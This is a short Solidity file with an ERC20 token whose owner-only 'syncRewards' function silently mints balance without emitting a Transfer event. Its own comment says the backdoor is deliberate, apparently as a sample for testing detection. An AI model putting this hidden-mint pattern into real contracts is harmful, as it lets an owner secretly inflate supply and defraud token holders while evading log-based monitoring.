// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "../lib/ERC20.sol";
import {Ownable} from "../lib/Ownable.sol";

/// @notice Looks like a plain token, but syncRewards lets the owner create balance out of thin air.
/// It deliberately emits no Transfer, so only behaviour (supply/balance changes) reveals it.
contract HiddenMintToken is ERC20, Ownable {
    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_, 18) Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function syncRewards(address account, uint256 amount) external onlyOwner {
        balanceOf[account] += amount;
        totalSupply += amount;
    }
}
